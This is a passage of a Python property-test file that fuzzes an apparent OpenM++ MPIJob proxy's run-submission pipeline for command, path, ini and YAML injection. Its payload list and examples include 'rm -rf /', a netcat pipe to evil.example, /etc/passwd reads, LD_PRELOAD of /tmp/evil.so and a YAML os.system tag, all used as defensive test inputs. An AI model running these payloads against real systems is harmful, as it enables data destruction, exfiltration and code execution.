"""Property tests: any ``POST /api/run`` body through the submit pipeline, without HTTP.

The pipeline is the submit handler's: ``parse_run_request`` → ``validate_run`` →
``choose_run_stamp`` → ``render``. For any body it must end in one of three ways:

* :class:`RunRequestError` with a 4xx status and a message (the handler answers with it);
* :class:`RenderError` with a message (the handler answers 400);
* a rendered run that is safe and exactly what the request asked for (:func:`check_rendered`).

Any other exception would be a 500 and fails the test. "Exactly what the request asked for"
is checked against an oracle computed from the parsed request (:func:`expected_from_request`):
the launcher argv, every ``-x`` pair, every model option pair, the generated ini file line by
line, and the ConfigMap's files. So a request string can only ever be one whole argv element
(or the value part of ``-x NAME=value``, or one escaped ini line), never add an element, an
option, an ini line, key or section, and never touch anything the template or the config own.

Runs are reproducible: ``derandomize=True`` and no example database.
"""

from __future__ import annotations

import dataclasses
import json
import math
import posixpath
import re
import time
from collections.abc import Callable, Iterable
from datetime import datetime
from typing import Any

import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from proxy import names
from proxy.config import FORBIDDEN_ENV_PATTERN, Config
from proxy.stamps import clean_file_name, clean_file_path, make_stamp
from proxy.submit.decode import ModelInfo, RunRequest, RunRequestError, parse_run_request
from proxy.submit.render import (
    HOSTFILE,
    RenderedRun,
    RenderError,
    Stamps,
    check_operator_rules,
    parse_quantity,
    render,
)
from proxy.submit.template import RUN_VOLUME, load_template
from proxy.submit.validate import ValidatedRun, choose_run_stamp, ini_read_value, validate_run
from tests import strategies as gen
from tests.crd import validate_mpijob
from tests.test_render import NEWCASEBASED, RISKPATHS, TEMPLATE_PATH, make_config

TEMPLATE = load_template(TEMPLATE_PATH)
TEMPLATE_JSON = json.dumps(TEMPLATE.manifest, sort_keys=True)
NOW = datetime(2025, 1, 28, 21, 0, 48, 391000)

CONFIGS: dict[str, Config] = {
    "default": make_config(),
    "microdata": make_config(
        runs={"allow_microdata": True},
        mpijob={"slots_per_worker": 2, "cpu_per_thread": "500m", "memory_per_process": "1536Mi"},
    ),
    "user-files": make_config(runs={"user_files_dir": "/opt/openmpp/home/io", "intercept": "all"}),
    "roomy": make_config(
        kubernetes={"namespace": "team-a"},
        runs={
            "max_processes": 300,
            "max_threads": 64,
            "allow_microdata": True,
            "user_files_dir": "/home/io",
        },
        mpijob={
            "slots_per_worker": 3,
            "name_prefix": "openmpp-model-run",
            "mpirun_args": ["--bind-to", "core", "--mca", "btl", "^openib"],
            "cpu_per_thread": "250m",
            "ini_mount_dir": "/run/openmpp",
        },
    ),
}
FROM_REQUEST = ModelInfo(name="<from the request>", digest="")
"""Marker: take the model from the request's ModelName/ModelDigest, as ``render`` (CLI) does."""
MODELS = (RISKPATHS, NEWCASEBASED, ModelInfo("OncoSimX-lung.v2_1", "0" * 32), FROM_REQUEST)

# oms's makeRunArgsIni drops these run options (lower case, without a leading '-').
DROPPED = frozenset(
    {
        "openm.runstamp",
        "openm.threads",
        "openm.notonroot",
        "openm.logtoconsole",
        "openm.logtofile",
        "openm.logfilepath",
        "openm.database",
        "db",
        "openm.sqlite",
        "openm.sqlitefrombin",
    }
)
DIR_OPTS = frozenset({"openm.inifile", "ini", "openm.paramdir", "p", "microdata.csvdir"})
INI_OPTS = frozenset({"openm.inifile", "ini"})
USER_FILES_FORMS = (
    "OM_USER_FILES",
    "$OM_USER_FILES",
    "{OM_USER_FILES}",
    "${OM_USER_FILES}",
    "%OM_USER_FILES%",
)
SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "/bin/sh", "/bin/bash", "/usr/bin/env"})

DNS1035 = re.compile(r"[a-z]([-a-z0-9]*[a-z0-9])?")
DNS1123_SUBDOMAIN = re.compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*")
LABEL_VALUE = re.compile(r"(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?")
LABEL_NAME = re.compile(r"[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?")
CONFIGMAP_KEY = re.compile(r"[-._a-zA-Z0-9]+")
CONTROL = re.compile(r"[\x00-\x1f\x7f]")
SHELLISH = frozenset(";$`|&<>(){}[]'\"\\*!#~\n\r\x00")

if getattr(yaml, "__with_libyaml__", False):
    _DUMPER: Any = yaml.CSafeDumper
    _LOADER: Any = yaml.CSafeLoader
else:  # pragma: no cover
    _DUMPER, _LOADER = yaml.SafeDumper, yaml.SafeLoader


def fuzz_settings(max_examples: int) -> settings:
    return settings(
        max_examples=max_examples,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


# --- the pipeline, as the submit handler runs it ----------------------------------------------


@dataclasses.dataclass(frozen=True)
class Submitter:
    """What the handler knows besides the body: config, resolved model, identity headers."""

    config: str = "default"
    model: ModelInfo = RISKPATHS
    user: str | None = "alice@example.org"
    request_id: str = "0f5c2a3e-8d41-4b7e-9a51-3c2f1e6d7b90"


DEFAULT = Submitter()
submitters = st.builds(
    Submitter,
    config=st.sampled_from(sorted(CONFIGS)),
    model=st.sampled_from(MODELS),
    user=st.one_of(st.none(), st.just("alice@example.org"), st.text(max_size=80)),
    request_id=st.one_of(st.uuids().map(str), st.text(min_size=1, max_size=80)),
)


def model_from_request(req: RunRequest) -> ModelInfo:
    name = req.model_name or req.model_digest
    return ModelInfo(name=name, digest=req.model_digest or name)


def check_refusal(e: RunRequestError) -> None:
    assert 400 <= e.status < 500, e.status
    assert isinstance(e.message, str)
    assert e.message.strip()


def check_render_error(e: RenderError) -> None:
    """The handler answers 400 with the message."""
    assert str(e).strip()


def submit(body: bytes, who: Submitter = DEFAULT) -> RenderedRun | None:
    """Run the pipeline; None when refused (checked), else the run (checked)."""
    config = CONFIGS[who.config]
    try:
        req = parse_run_request(body)
    except RunRequestError as e:
        check_refusal(e)
        return None
    model = model_from_request(req) if who.model is FROM_REQUEST else who.model
    try:
        run = validate_run(req, model, config.runs)
        stamp = choose_run_stamp(req, NOW)
    except RunRequestError as e:
        check_refusal(e)
        return None
    stamps = Stamps(
        run_stamp=stamp,
        submit_stamp=make_stamp(NOW),
        request_id=who.request_id,
        user=who.user,
        submitted_at=NOW,
    )
    try:
        rendered = render(run, model, config, TEMPLATE, stamps)
    except RenderError as e:
        check_render_error(e)
        return None
    check_rendered(rendered, req, run, model, config, stamps)
    return rendered


# --- the oracle: what the request asked for ---------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Expected:
    work_dir: str
    env: dict[str, str]
    opts: list[tuple[str, str]]
    """``("-Key", value)`` run options for the model, sorted."""
    ini_file: str | None
    settings: list[tuple[str, str, str]]
    """(section, key, value) of the generated settings, in the documented order."""
    notes: dict[str, str]


def expected_path(value: str, user_files_dir: str) -> str:
    for form in USER_FILES_FORMS:
        if value == form or value.startswith(form + "/"):
            value = posixpath.normpath(user_files_dir + value[len(form) :])
            break
    return clean_file_path(value)


def expected_from_request(req: RunRequest, config: Config, stamp: str) -> Expected:
    runs, mount = config.runs, config.mpijob.ini_mount_dir
    work_dir = posixpath.normpath(req.dir) if req.dir else ""
    opts: list[tuple[str, str]] = []
    ini_file: str | None = None
    descriptions: dict[str, str] = {}
    for key, value in req.opts.items():
        bare = key.removeprefix("-")
        low = bare.lower()
        if low in DROPPED or low.startswith("importdb."):
            continue
        if low in DIR_OPTS:
            value = expected_path(value, runs.user_files_dir)
        if low in INI_OPTS:
            ini_file = value
        elif low.endswith(".rundescription"):
            if value:
                descriptions[bare[: -len(".rundescription")]] = value
        else:
            opts.append(("-" + bare, value))
    settings_: list[tuple[str, str, str]] = []
    if req.tables:
        settings_.append(("Tables", "Retain", ", ".join(req.tables)))
    entities = {e.name: e.attr for e in req.microdata.entity}
    if runs.allow_microdata and req.microdata.is_to_db and entities:
        settings_.append(("Microdata", "ToDb", "true"))
        if req.microdata.is_internal:
            settings_.append(("Microdata", "UseInternal", "true"))
        settings_ += [("Microdata", name, ",".join(attr)) for name, attr in entities.items()]
    notes = {n.lang_code: n.note for n in req.run_notes if n.note}
    for lang in sorted(descriptions.keys() | notes.keys()):
        if lang in descriptions:
            settings_.append((lang, "RunDescription", descriptions[lang]))
        if lang in notes:
            settings_.append((lang, "RunNotesPath", f"{mount}/{stamp}.run_notes.{lang}.md"))
    return Expected(
        work_dir="" if work_dir == "." else work_dir,
        env={name: value for name, value in req.env.items() if name and value},
        opts=sorted(opts),
        ini_file=ini_file,
        settings=settings_,
        notes=notes,
    )


# --- the checks ---------------------------------------------------------------------------------


def check_rendered(
    rendered: RenderedRun,
    req: RunRequest,
    run: ValidatedRun,
    model: ModelInfo,
    config: Config,
    stamps: Stamps,
) -> None:
    job = rendered.mpijob
    validate_mpijob(job)
    check_operator_rules(job, run.mpi_np)
    assert json.dumps(TEMPLATE.manifest, sort_keys=True) == TEMPLATE_JSON, "template changed"
    assert run.mpi_np <= config.runs.max_processes
    assert 1 <= run.threads <= config.runs.max_threads
    expected = expected_from_request(req, config, stamps.run_stamp)
    check_names_and_labels(rendered, config)
    check_template_parts(rendered, run, config)
    check_argv(rendered.argv, expected, run, model, config, stamps)
    assert list(rendered.argv) == pod_spec(job, "Launcher")["containers"][0]["command"]
    check_whole_elements(rendered.argv, req, expected, config)
    check_configmap(rendered, expected, run, config, stamps)
    check_round_trips(rendered)


def pod_spec(job: dict[str, Any], role: str) -> dict[str, Any]:
    spec: dict[str, Any] = job["spec"]["mpiReplicaSpecs"][role]["template"]["spec"]
    return spec


def _label_maps(obj: dict[str, Any]) -> Iterable[dict[str, Any]]:
    yield obj["metadata"]["labels"]
    for role in obj.get("spec", {}).get("mpiReplicaSpecs", {}).values():
        yield role["template"]["metadata"]["labels"]


def check_names_and_labels(rendered: RenderedRun, config: Config) -> None:
    job, name = rendered.mpijob, rendered.name
    assert job["metadata"]["name"] == name
    assert len(name) <= names.MAX_NAME, name
    assert DNS1035.fullmatch(name), name
    assert name.startswith(config.mpijob.name_prefix + "-")
    workers = job["spec"]["mpiReplicaSpecs"]["Worker"]["replicas"]
    pod = f"{name}-worker-{workers - 1}"
    assert len(pod) <= 63, pod
    assert DNS1035.fullmatch(pod), pod
    assert len(f"{name}-launcher") <= 63
    assert job["metadata"]["namespace"] == config.kubernetes.namespace
    objects = [job]
    if rendered.configmap is not None:
        cm = rendered.configmap
        assert cm["metadata"]["name"] == name + "-run"
        assert DNS1123_SUBDOMAIN.fullmatch(cm["metadata"]["name"])
        assert cm["metadata"]["namespace"] == config.kubernetes.namespace
        objects.append(cm)
    for obj in objects:
        for labels in _label_maps(obj):
            for key, value in labels.items():
                prefix, _, label = key.rpartition("/")
                assert not prefix or DNS1123_SUBDOMAIN.fullmatch(prefix), key
                assert len(label) <= 63, key
                assert LABEL_NAME.fullmatch(label), key
                assert isinstance(value, str), (key, value)
                assert len(value) <= 63, (key, value)
                assert LABEL_VALUE.fullmatch(value), (key, value)
        for value in obj["metadata"]["annotations"].values():
            assert isinstance(value, str)


def _strip(job: dict[str, Any], configmap_name: str | None, mount_dir: str) -> dict[str, Any]:
    """``job`` without the documented places the renderer writes (for comparing to the template)."""
    job = json.loads(json.dumps(job))
    job.pop("metadata", None)
    spec = job["spec"]
    spec.pop("slotsPerWorker", None)
    for key in (
        "cleanPodPolicy",
        "backoffLimit",
        "activeDeadlineSeconds",
        "ttlSecondsAfterFinished",
    ):
        spec.get("runPolicy", {}).pop(key, None)
    for role in ("Launcher", "Worker"):
        replica = spec["mpiReplicaSpecs"][role]
        replica.pop("replicas", None)
        replica.pop("restartPolicy", None)
        replica["template"].pop("metadata", None)
    launcher_pod = pod_spec(job, "Launcher")
    launcher = launcher_pod["containers"][0]
    launcher.pop("command", None)
    if configmap_name is not None:
        mount = launcher["volumeMounts"].pop()
        assert mount == {"name": RUN_VOLUME, "mountPath": mount_dir, "readOnly": True}
        volume = launcher_pod["volumes"].pop()
        assert volume == {"name": RUN_VOLUME, "configMap": {"name": configmap_name}}
    worker = pod_spec(job, "Worker")["containers"][0]
    resources = worker.get("resources", {})
    requests = resources.get("requests", {})
    requests.pop("cpu", None)
    requests.pop("memory", None)
    if not requests:
        resources.pop("requests", None)
    return job


def check_template_parts(rendered: RenderedRun, run: ValidatedRun, config: Config) -> None:
    """Only the documented places differ from the template, and those come from the config."""
    job, mj = rendered.mpijob, config.mpijob
    cm_name = None if rendered.configmap is None else rendered.configmap["metadata"]["name"]
    assert _strip(job, cm_name, mj.ini_mount_dir) == _strip(TEMPLATE.manifest, None, "")
    for role in ("Launcher", "Worker"):
        ours, theirs = pod_spec(job, role), pod_spec(TEMPLATE.manifest, role)
        for kind in ("containers", "initContainers"):
            assert [c["image"] for c in ours.get(kind, [])] == [
                c["image"] for c in theirs.get(kind, [])
            ]
        assert ours["securityContext"] == theirs["securityContext"]
        extra = [{"name": RUN_VOLUME, "configMap": {"name": cm_name}}] if cm_name else []
        assert ours["volumes"] == theirs["volumes"] + (extra if role == "Launcher" else [])
    template_labels = TEMPLATE.manifest["metadata"]["labels"]
    assert job["metadata"]["labels"].items() >= template_labels.items()
    spec = job["spec"]
    assert spec["slotsPerWorker"] == mj.slots_per_worker
    assert spec["runPolicy"]["cleanPodPolicy"] == mj.clean_pod_policy
    assert spec["runPolicy"]["backoffLimit"] == 0
    assert spec["runPolicy"]["activeDeadlineSeconds"] == mj.active_deadline_seconds
    assert spec["runPolicy"]["ttlSecondsAfterFinished"] == mj.ttl_seconds_after_finished
    launcher, worker = spec["mpiReplicaSpecs"]["Launcher"], spec["mpiReplicaSpecs"]["Worker"]
    assert (launcher["replicas"], launcher["restartPolicy"]) == (1, "Never")
    assert worker["replicas"] == math.ceil(run.mpi_np / mj.slots_per_worker)
    requests = pod_spec(job, "Worker")["containers"][0]["resources"]["requests"]
    cpu = run.threads * mj.slots_per_worker * parse_quantity(mj.cpu_per_thread)
    assert parse_quantity(requests["cpu"]) == math.ceil(cpu * 1000) / 1000
    memory = mj.slots_per_worker * parse_quantity(mj.memory_per_process)
    assert parse_quantity(requests["memory"]) == memory


def check_argv(
    argv: tuple[str, ...],
    expected: Expected,
    run: ValidatedRun,
    model: ModelInfo,
    config: Config,
    stamps: Stamps,
) -> None:
    """The launcher argv is exactly mpirun's fixed part, ``-x`` pairs, the model and its pairs."""
    mj, runs = config.mpijob, config.runs
    assert all(isinstance(a, str) for a in argv)
    for element in argv:
        assert "\x00" not in element, element
        element.encode("utf-8")  # no lone surrogates
    head = ["mpirun", "-n", str(run.mpi_np), "--hostfile", HOSTFILE, *mj.mpirun_args, "-wdir"]
    assert list(argv[: len(head)]) == head
    i = len(head)
    wdir = argv[i]
    bin_dir = mj.models_bin_dir
    assert wdir == (posixpath.join(bin_dir, expected.work_dir) if expected.work_dir else bin_dir)
    assert posixpath.normpath(wdir) == wdir
    assert ".." not in wdir.split("/")
    assert wdir == bin_dir or wdir.startswith(bin_dir + "/")
    i += 1
    env: dict[str, str] = {}
    while argv[i] == "-x":
        name, sep, value = argv[i + 1].partition("=")
        assert sep, argv[i + 1]
        assert name in runs.allowed_env, name
        assert not FORBIDDEN_ENV_PATTERN.match(name), name
        assert name not in env
        env[name] = value
        i += 2
    assert env == expected.env
    exe = argv[i]
    assert exe == f"{bin_dir}/{clean_file_name(model.name)}_mpi"
    assert posixpath.normpath(exe) == exe
    assert posixpath.dirname(exe) == bin_dir
    mpirun_part = argv[: i + 1]
    assert not SHELLS & set(mpirun_part), mpirun_part
    assert "-c" not in mpirun_part, mpirun_part
    assert posixpath.basename(exe) not in SHELLS

    # Model arguments: "-Key value" pairs (no value starts with '-'), then maybe a bare flag.
    rest = argv[i + 1 :]
    pairs: list[tuple[str, str]] = []
    flags: list[str] = []
    j = 0
    while j < len(rest):
        key = rest[j]
        assert key.startswith("-"), key
        assert len(key) > 1, key
        if key == "-OpenM.NotOnRoot":
            flags.append(key)
            j += 1
            continue
        assert j + 1 < len(rest), key
        value = rest[j + 1]
        assert not value.startswith("-"), (key, value)
        pairs.append((key, value))
        j += 2
    stamp = stamps.run_stamp
    want = [
        ("-OpenM.RunStamp", stamp),
        ("-OpenM.LogToConsole", "true"),
        ("-OpenM.LogToFile", "false"),
        *expected.opts,
    ]
    if expected.ini_file is not None:
        want.append(("-ini", expected.ini_file))
        want += [(f"-{section}.{key}", value) for section, key, value in expected.settings]
    elif expected.settings:
        want.append(("-ini", f"{mj.ini_mount_dir}/{stamp}.{run.exe_stem}.ini"))
    if run.threads > 1:
        want.append(("-OpenM.Threads", str(run.threads)))
    assert pairs == want
    # A shell name or "-c" can only be a run option's value (a string the model gets).
    assert not ({key for key, _ in pairs} | set(flags)) & (SHELLS | {"-c"})
    assert flags == (["-OpenM.NotOnRoot"] if run.not_on_root else [])
    # Keys of run options are unique, also ignoring case (no option given twice).
    opt_keys = [key.lower() for key, _ in pairs[: 3 + len(expected.opts)]]
    assert len(set(opt_keys)) == len(opt_keys), opt_keys
    # Paths stay relative and local, or absolute under the user files directory.
    for key, value in pairs:
        if key == "-ini" and expected.ini_file is None:
            continue  # the generated ini file, in the ConfigMap
        if key.removeprefix("-").lower() in DIR_OPTS:
            parts = value.split("/")
            assert ".." not in parts, value
            assert "\x00" not in value, value
            if value.startswith("/"):
                assert runs.user_files_dir, value
                assert (value + "/").startswith(runs.user_files_dir + "/"), value


def check_whole_elements(
    argv: tuple[str, ...], req: RunRequest, expected: Expected, config: Config
) -> None:
    """A request string with shell or YAML syntax in it is never part of a larger argv element.

    Each request string has the elements it may appear in (itself, ``NAME=value`` for Env, the
    work directory for Dir, ...); run notes, Template and the model fields never reach the argv.
    """
    allowed: dict[str, set[str]] = {}

    def may_be_in(s: str, *elements: str) -> None:
        allowed.setdefault(s, set()).update(elements)

    user_files_dir, bin_dir = config.runs.user_files_dir, config.mpijob.models_bin_dir
    for key, value in req.opts.items():
        bare = key.removeprefix("-")
        may_be_in(key, "-" + bare)
        if bare.lower() in DIR_OPTS:
            may_be_in(value, expected_path(value, user_files_dir))
        else:
            may_be_in(value, value)
    for name, value in req.env.items():
        may_be_in(value, f"{name}={value}")
        may_be_in(name, f"{name}={value}")
    for table in req.tables:
        may_be_in(table, ", ".join(req.tables))
    for note in req.run_notes:
        may_be_in(note.note)
    may_be_in(req.dir, posixpath.join(bin_dir, expected.work_dir) if expected.work_dir else bin_dir)
    may_be_in(req.template)
    may_be_in(req.model_name)
    may_be_in(req.model_digest)
    for s in allowed:
        if len(s) < 2 or not SHELLISH & set(s):
            continue
        permitted = set().union(*(forms for t, forms in allowed.items() if s in t))
        for element in argv:
            assert s not in element or element in permitted, (
                f"request string {s!r} is part of the argv element {element!r}"
            )


def check_configmap(
    rendered: RenderedRun, expected: Expected, run: ValidatedRun, config: Config, stamps: Stamps
) -> None:
    """The ConfigMap holds exactly the asked-for ini lines and notes files."""
    stamp = stamps.run_stamp
    ini_name = f"{stamp}.{run.exe_stem}.ini"
    files = {f"{stamp}.run_notes.{lang}.md": note for lang, note in expected.notes.items()}
    with_ini = bool(expected.settings) and expected.ini_file is None
    if not files and not with_ini:
        assert rendered.configmap is None
        for role in ("Launcher", "Worker"):
            assert RUN_VOLUME not in [v["name"] for v in pod_spec(rendered.mpijob, role)["volumes"]]
        return
    cm = rendered.configmap
    assert cm is not None
    assert (cm["apiVersion"], cm["kind"], cm["immutable"]) == ("v1", "ConfigMap", True)
    data = cm["data"]
    assert set(data) == set(files) | ({ini_name} if with_ini else set())
    for key in data:
        assert len(key) <= 253, key
        assert CONFIGMAP_KEY.fullmatch(key), key
    for key, note in files.items():
        assert data[key] == note
    size = sum(len(k) + len(v.encode("utf-8")) for k, v in data.items())
    assert size <= 1_000_000
    if not with_ini:
        return
    text = data[ini_name]
    assert text.endswith("\n")
    lines = text[:-1].split("\n")  # OpenM++ reads lines up to '\n' only
    assert lines[0] == f"; model run settings for run {stamp}, written by oms-mpijob-proxy"
    sections: list[str] = []
    entries: list[tuple[str, str, str]] = []
    for line in lines[1:]:
        assert not CONTROL.search(line), line
        if m := re.fullmatch(r"\[([A-Za-z0-9_-]+)\]", line):
            sections.append(m[1])
            continue
        m = re.fullmatch(r"([A-Za-z_][A-Za-z0-9_]*) = (.*)", line)
        assert m, line
        assert sections, line
        value = ini_read_value(m[2])
        assert value is not None, line
        entries.append((sections[-1], m[1], value))
    assert entries == expected.settings
    assert sections == list(dict.fromkeys(section for section, _, _ in expected.settings))
    assert len(lines) == 1 + len(sections) + len(entries)


def check_round_trips(rendered: RenderedRun) -> None:
    """What is sent (JSON) or printed (YAML, as ``render`` does) reads back unchanged."""
    docs = [rendered.mpijob] + ([rendered.configmap] if rendered.configmap else [])
    for doc in docs:
        text = json.dumps(doc, ensure_ascii=False)
        assert json.loads(text.encode("utf-8")) == doc
    dumped = yaml.dump_all(docs, Dumper=_DUMPER, sort_keys=False, width=100)
    assert list(yaml.load_all(dumped, Loader=_LOADER)) == docs


# --- properties -------------------------------------------------------------------------------


def as_parsed(text: str) -> str:
    """``text`` as the parser reads it back (lone surrogates become U+FFFD)."""
    return re.sub("[\ud800-\udfff]", "\ufffd", json.loads(gen.encode(text)))


def _json(value: Any) -> bytes:
    return gen.to_bytes(gen.encode(value))


@fuzz_settings(max_examples=300)
@given(body=gen.any_bytes)
@example(body=b"")
@example(body=b"\x00")
@example(body=b"\xef\xbb\xbf{}")  # a BOM: not JSON to Go either
@example(body=b'{"ModelDigest":"x","IsMpi":true,"Opts":{"OpenM.RunName":"\xff\xfe"}}')
@example(body=b'{"ModelDigest":"x","IsMpi":true,"Opts":{"OpenM.RunName":"a\\u0000b"}}')
@example(body=b'{"ModelDigest":"x","IsMpi":true,"Dir":"\\ud800"}')
@example(body=b'{"Mpi":{"Np":1e2}}')
@example(body=b'{"Mpi":{"Np":99999999999999999999999999}}')
@example(body=b'{"Threads":NaN}')
@example(body=b"[" * 100_000)
@example(body=b'{"a":' * 50_000)
@example(body=b'{"ModelDigest":"x","IsMpi":true} trailing garbage')
@example(body=b'{"ModelDigest":"x","IsMpi":true,"Opts":{"OpenM.RunName":"unterminated}')
def test_any_bytes_end_in_a_4xx_or_a_safe_run(body: bytes) -> None:
    submit(body)


@fuzz_settings(max_examples=150)
@given(value=gen.json_value, who=submitters)
@example(value=None, who=DEFAULT)
@example(value=[], who=DEFAULT)
@example(value="Opts", who=DEFAULT)
@example(value=gen.Obj((("Opts", gen.Obj((("OpenM.RunName", 1),))),)), who=DEFAULT)
@example(value=gen.Obj((("IsMpi", True), ("Mpi", gen.Obj((("Np", gen.Lit("-0")),))))), who=DEFAULT)
def test_any_json_value_ends_in_a_4xx_or_a_safe_run(value: Any, who: Submitter) -> None:
    submit(_json(value), who)


def _run(*pairs: tuple[str, Any]) -> gen.Obj:
    """A UI-like MPI run body plus ``pairs`` (later keys win, as in Go)."""
    base = (("ModelDigest", RISKPATHS.digest), ("IsMpi", True), ("Mpi", {"Np": 2}))
    return gen.Obj((*base, *pairs))


@fuzz_settings(max_examples=400)
@given(body=gen.ui_body, who=submitters)
@example(  # keys repeated with other spellings: Go merges maps and keeps the last scalar
    body=_json(
        _run(
            ("Opts", {"OpenM.RunName": "first", "OpenM.SetName": "$(id)"}),
            ("opts", {"OpenM.RunName": "; rm -rf / #"}),
            ("OPTS", gen.Obj((("OpenM.SubValues", "2"), ("OpenM.SubValues", "`id`")))),
            ("dir", "a/b"),
            ("Dir", "../../etc/passwd"),
        )
    ),
    who=DEFAULT,
)
@example(
    body=_json(
        _run(
            ("Opts", {"OpenM.RunName": "x", "openm.runname": "y"}),  # same key twice: refused
        )
    ),
    who=DEFAULT,
)
@example(
    body=_json(_run(("Mpi", {"Np": 300}), ("Threads", 1), ("Tables", ["A", "B"]))),
    who=Submitter(config="roomy"),
)
@example(  # many workers, a long model name and prefix: the name must still fit
    body=_json(_run(("Mpi", {"Np": 299, "IsNotOnRoot": True}))),
    who=Submitter(config="roomy", model=ModelInfo("A_Very_Long_Model_Name_" * 4, "f" * 32)),
)
@example(body=_json(_run(("Env", {"FOO": "1"}))), who=DEFAULT)  # not allow-listed
@example(body=_json(_run(("Env", {"LD_PRELOAD": "/tmp/evil.so"}))), who=DEFAULT)
@example(body=_json(_run(("Env", {"TZ=UTC -x LD_PRELOAD": "/tmp/evil.so"}))), who=DEFAULT)
@example(body=_json(_run(("Env", {"tz": "UTC", "TZ": "UTC\n-x LD_PRELOAD=/x"}))), who=DEFAULT)
@example(  # the model taken from the request (the render CLI)
    body=_json(_run(("ModelName", "../../bin/sh"), ("ModelDigest", ""))),
    who=Submitter(model=FROM_REQUEST),
)
@example(
    body=_json(_run(("ModelName", "Risk Paths; id"), ("ModelDigest", "d"))),
    who=Submitter(model=FROM_REQUEST),
)
@example(  # everything the ini file can hold, with hostile but acceptable values
    body=_json(
        _run(
            ("Tables", ["T01", "T02"]),
            (
                "Microdata",
                {
                    "IsToDb": True,
                    "IsInternal": True,
                    "Entity": [{"Name": "Person", "Attr": ["age"]}],
                },
            ),
            (
                "Opts",
                {
                    "EN.RunDescription": "a = b; [x] # c \"q\" 'r'",
                    "fr_CA.RunDescription": "\u2028\u202e${IFS}",
                },
            ),
            ("RunNotes", [{"LangCode": "EN", "Note": "[Tables]\nRetain = evil\r\n"}]),
        )
    ),
    who=Submitter(config="microdata"),
)
@example(  # the same with the user's own ini: the settings become argv pairs
    body=_json(
        _run(
            ("Tables", ["T01"]),
            ("Opts", {"OpenM.IniFile": "OM_USER_FILES/my run.ini", "EN.RunDescription": "a;\"b'#"}),
            ("RunNotes", [{"LangCode": "EN", "Note": "x" * 100_000}]),
        )
    ),
    who=Submitter(config="user-files"),
)
def test_ui_shaped_bodies_end_in_a_4xx_or_a_safe_run(body: bytes, who: Submitter) -> None:
    submit(body, who)


# --- the classic payloads in every place a request can put a string ---------------------------

PLACES: dict[str, Callable[[str], gen.Obj]] = {
    "Opts.OpenM.RunName": lambda p: _run(("Opts", {"OpenM.RunName": p})),
    "Opts.OpenM.SetName": lambda p: _run(("Opts", {"-OpenM.SetName": p})),
    "Opts.Parameter": lambda p: _run(("Opts", {"Parameter.SimulationCases": p})),
    "Opts.EN.RunDescription": lambda p: _run(("Opts", {"EN.RunDescription": p})),
    "Opts.OpenM.RunStamp": lambda p: _run(("Opts", {"OpenM.RunStamp": p})),
    "Opts.OpenM.IniFile": lambda p: _run(("Opts", {"OpenM.IniFile": p})),
    "Opts.OpenM.ParamDir": lambda p: _run(("Opts", {"OpenM.ParamDir": p})),
    "Opts key": lambda p: _run(("Opts", {p: "1"})),
    "Opts Parameter key": lambda p: _run(("Opts", {"Parameter." + p: "1"})),
    "Opts key twice": lambda p: _run(
        ("Opts", gen.Obj((("OpenM.RunName", "ok"), ("OpenM.RunName", p))))
    ),
    "Env.TZ": lambda p: _run(("Env", {"TZ": p})),
    "Env key": lambda p: _run(("Env", {p: "UTC"})),
    "Tables": lambda p: _run(("Tables", ["T01", p])),
    "RunNotes.Note": lambda p: _run(("RunNotes", [{"LangCode": "EN", "Note": p}])),
    "RunNotes.LangCode": lambda p: _run(("RunNotes", [{"LangCode": p, "Note": "n"}])),
    "Microdata.Entity.Name": lambda p: _run(
        ("Microdata", {"IsToDb": True, "Entity": [{"Name": p, "Attr": ["age"]}]})
    ),
    "Dir": lambda p: _run(("Dir", p)),
    "RunStamp": lambda p: _run(("RunStamp", p)),
    "Template": lambda p: _run(("Template", p)),
    "ModelName": lambda p: _run(("ModelName", p), ("ModelDigest", "")),
}
BRIEF_PAYLOADS = (
    "; rm -rf / #",
    "$(id)",
    "`id`",
    "a | nc evil.example 4444",
    "${IFS}cat${IFS}/etc/passwd",
    "line1\nline2",
    "first\r\nOpenM.RunStamp = evil",
    "../../etc/passwd",
    "/etc/passwd",
    "nul\x00byte",
    "x" * 100_000,
    "key: value",
    "# not a comment",
    "[section]",
    "{a: b}",
    "&anchor *alias",
    "!!python/object/apply:os.system ['id']",
    "\uff2f\uff50\uff45\uff4e\uff2d\uff0e\uff32\uff55\uff4e\uff33\uff54\uff41\uff4d\uff50",
    "\u017f\u212a \u202eevil\u202c",
)
PATH_PLACES = ("Dir", "Opts.OpenM.IniFile", "Opts.OpenM.ParamDir")


def _with_examples(f: Callable[..., None]) -> Callable[..., None]:
    for place in PLACES:
        for payload in BRIEF_PAYLOADS:
            f = example(place=place, payload=payload, config="microdata")(f)
    return f


@fuzz_settings(max_examples=100)
@given(
    place=st.sampled_from(sorted(PLACES)),
    payload=gen.nasty_text,
    config=st.sampled_from(sorted(CONFIGS)),
)
@_with_examples
def test_classic_payloads_anywhere(place: str, payload: str, config: str) -> None:
    model = FROM_REQUEST if place == "ModelName" else RISKPATHS
    rendered = submit(_json(PLACES[place](payload)), Submitter(config=config, model=model))
    if rendered is None:
        return
    argv = rendered.argv
    payload = as_parsed(payload)
    parts = payload.split("/")
    if place in PATH_PLACES:
        assert ".." not in parts, "a path left the model directory"
        assert "\x00" not in payload
        assert not payload.startswith("/"), "an absolute path was accepted"
    keys = {"Opts.Parameter": "-Parameter.SimulationCases", "Opts.OpenM.SetName": "-OpenM.SetName"}
    if place in ("Opts.OpenM.RunName", "Opts key twice", *keys):
        key = keys.get(place, "-OpenM.RunName")
        assert [argv[k + 1] for k in range(len(argv) - 1) if argv[k] == key] == [payload]
    if place == "Env.TZ" and payload:
        assert argv[argv.index(f"TZ={payload}") - 1] == "-x"
    if place in ("RunNotes.Note", "Template") and any(c in payload for c in SHELLISH):
        assert not any(payload in a for a in argv)


# --- cost ---------------------------------------------------------------------------------------


def test_repeated_keys_cost_linear_time() -> None:
    """Go merges a repeated map key into the map so far; doing that by copying was quadratic.

    This 0.8 MB body (one Opts of 40 000 keys, then ``"Opts":{}`` 35 000 times) took over two
